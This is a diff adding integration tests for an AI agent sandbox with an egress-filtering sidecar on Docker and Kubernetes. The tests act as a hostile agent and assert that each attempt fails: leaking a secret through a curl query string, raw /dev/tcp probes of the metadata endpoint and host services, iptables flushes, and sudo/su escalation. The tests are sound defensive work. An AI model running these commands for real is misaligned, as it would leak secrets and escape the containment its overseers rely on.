@@ -189,3 +189,139 @@ class SecretsTest(support.IntegrationTest):
     def test_not_in_dockers_disk_state(self):
         for needle in (self.token, self.value):
             self.assertEqual(support.found_on_docker_disk(needle), [], f"{needle[:12]}… found on disk")
+
+
+SECRET = "reach-secret-value-" + "s" * 24
+
+
+class ReachTest:
+    """The same attacks on both runtimes, through the CLI with the real sidecar: from inside a bottle, only its
+    sidecar's proxy leads anywhere, and the sidecar lets through only what the manifest allows."""
+
+    runtime: support.Runtime
+
+    @classmethod
+    def setUpClass(cls):
+        from .test_sidecar import Project
+
+        super().setUpClass()
+        cls.host_service = HostService()
+        cls.project = Project({"bottles": {"reach": {"env": {"REACH_SECRET": "${REACH_SECRET}"},
+                                                     "egress": {"allowlist": ["pypi.org"]}}},
+                               "agents": {"reach": {"bottle": "reach", "prompt": "test"}}},
+                              {"REACH_SECRET": SECRET}, cls.runtime)
+        out = cls.project.cli("start", "reach", "--yes", "--detach")
+        if out.returncode != 0:
+            cls.host_service.close()
+            cls.project.tmp.cleanup()
+            raise AssertionError(f"start --detach on {cls.runtime} failed: {out.stderr}")
+        cls.name = out.stdout.strip()
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.project.cli("stop", cls.name)
+        cls.host_service.close()
+        cls.project.tmp.cleanup()
+        super().tearDownClass()
+
+    def sh(self, script: str, timeout: float = 60) -> subprocess.CompletedProcess:
+        return self.project.cli("exec", self.name, "--", "sh", "-c", script, timeout=timeout)
+
+    def connects(self, host: str, port: int) -> bool:
+        """Whether the agent can open a TCP connection to host:port (bash's /dev/tcp, as a hostile agent)."""
+        done = self.sh(support._connects_script(host, port))
+        self.assertEqual(done.returncode, 0, done.stderr)
+        return done.stdout.strip() == "OPEN"
+
+    def test_ps_and_exec_see_the_bottle(self):
+        rows = json.loads(self.project.cli("ps", "--json").stdout)
+        (row,) = [r for r in rows if r["name"] == self.name]
+        self.assertEqual((row["agent"], row["state"]), ("reach", "running"))
+        table = self.project.cli("ps").stdout.splitlines()
+        self.assertEqual(table[0].split(), ["NAME", "AGENT", "BOTTLE", "UPTIME", "STATE", "RESULT"]
+                         + (["NODE"] if self.runtime.nodes else []))
+        self.assertEqual(self.sh('id -un; pwd; echo "$REACH_SECRET"').stdout.split(), ["claude", "/workspace", SECRET])
+
+    def test_the_proxy_lets_allowed_hosts_through_and_refuses_others(self):
+        allowed = self.sh("curl -s -o /dev/null -w '%{http_code}' --max-time 30 https://pypi.org/simple/pip/")
+        self.assertEqual(allowed.stdout.strip(), "200", allowed.stderr)
+        refused = self.sh("curl -s -o /dev/null -w '%{http_connect}' --max-time 30 https://example.com/")
+        self.assertEqual(refused.stdout.strip(), "403", refused.stdout + refused.stderr)
+        report = self.project.cli("logs", "--egress", "--json", self.name)
+        self.assertEqual(report.returncode, 0, report.stderr)
+        decisions = {(r["host"].split(":")[0], r["decision"]) for r in json.loads(report.stdout)}
+        self.assertIn(("example.com", "blocked"), decisions)
+        self.assertIn(("pypi.org", "allowed"), decisions)
+
+    def test_a_secret_sent_to_an_allowed_host_is_blocked(self):
+        out = self.sh(f"curl -s -o /dev/null -w '%{{http_code}}' --max-time 30 "
+                      f"'https://pypi.org/simple/pip/?leak={SECRET}'")
+        self.assertEqual(out.stdout.strip()[:1], "4", out.stdout + out.stderr)
+
+    def test_nothing_but_the_sidecar_is_reachable(self):
+        host = self.runtime.host_address()
+        port = self.host_service.port
+        # Controls: a workload of the runtime that is not a bottle reaches the same host service and neighbour,
+        # so a refusal below is the bottle's doing, not a dead target's.
+        self.assertTrue(self.runtime.plain_workload_reaches(host, port))
+        with self.runtime.neighbour() as (neighbour, neighbour_port):
+            self.assertTrue(self.runtime.plain_workload_reaches(neighbour, neighbour_port))
+            nameserver = self.sh("awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf").stdout.strip()
+            targets = [(a, port) for a in sorted(host_addresses() | {host})]
+            targets += [(neighbour, neighbour_port), ("169.254.169.254", 80), ("1.1.1.1", 443),
+                        ("203.0.113.80", 443), ("2606:4700:4700::1111", 443), ("fd00::1", 80)]
+            if nameserver:
+                targets.append((nameserver, 53))
+            for target in targets:
+                with self.subTest(target=target):
+                    self.assertFalse(self.connects(*target))
+        udp = self.sh(f"timeout 5 bash -c 'echo x > /dev/udp/{nameserver or host}/53' 2>&1; echo $?")
+        self.assertNotEqual(udp.stdout.strip().splitlines()[-1], "0", udp.stdout)
+        resolved = self.sh("getent hosts github.com registry.npmjs.org")
+        self.assertNotEqual(resolved.returncode, 0)
+        self.assertEqual(resolved.stdout.strip(), "")
+
+    def test_every_listening_port_but_the_proxy_is_refused(self):
+        """Whatever listens where the agent could reach it (on Kubernetes the pod's loopback, shared with the
+        sidecar: pipelock and its metrics) stays out of reach; only the proxy port leads anywhere."""
+        listening = self.sh("awk 'NR > 1 && $4 == \"0A\" {print $2}' /proc/net/tcp /proc/net/tcp6").stdout.split()
+        ports = sorted({int(entry.rsplit(":", 1)[1], 16) for entry in listening})
+        self.assertIn(bottle.PROXY_PORT, ports)
+        for port in ports:
+            if port == bottle.PROXY_PORT:
+                continue
+            for host in ("127.0.0.1", "127.0.0.2", "localhost"):
+                with self.subTest(port=port, host=host):
+                    self.assertFalse(self.connects(host, port))
+        # Its own servers on loopback still work, as a developer's would.
+        served = self.sh("socat TCP-LISTEN:18080,bind=127.0.0.1,reuseaddr SYSTEM:'echo mine' >/dev/null 2>&1 & "
+                         "sleep 0.5; bash -c 'exec 3<>/dev/tcp/127.0.0.1/18080 && head -1 <&3'; kill $! 2>/dev/null")
+        self.assertEqual(served.stdout.strip(), "mine", served.stderr)
+
+    def test_the_agent_cannot_gain_privileges_or_open_the_network(self):
+        out = self.sh("iptables -P OUTPUT ACCEPT 2>/dev/null; iptables -F OUTPUT 2>/dev/null; "
+                      "ip link set lo down 2>/dev/null; sudo -n true 2>/dev/null && echo SUDO; "
+                      "su -c true root </dev/null 2>/dev/null && echo SU; "
+                      "grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status")
+        self.assertEqual(out.stdout.split(), ["CapPrm:", "0000000000000000", "CapEff:", "0000000000000000",
+                                              "NoNewPrivs:", "1"])
+        self.assertFalse(self.connects("1.1.1.1", 443))
+        self.assertTrue(self.sh("curl -s -o /dev/null --max-time 30 https://pypi.org/simple/").returncode == 0)
+
+    def test_the_secret_is_in_no_description_of_the_bottle(self):
+        described = self.runtime.described(self.name)
+        self.assertIn(self.name, described)  # control: the description is the bottle's
+        self.assertNotIn(SECRET, described)
+        self.assertEqual(support.found_on_command_lines(SECRET), [])
+
+
+class ReachOnDockerTest(ReachTest, support.IntegrationTest):
+    runtime = support.DOCKER
+
+
+class ReachOnKubernetesTest(ReachTest, support.IntegrationTest):
+    runtime = support.KUBERNETES
+
+
+def tearDownModule():
+    support.KUBERNETES.tear_down()
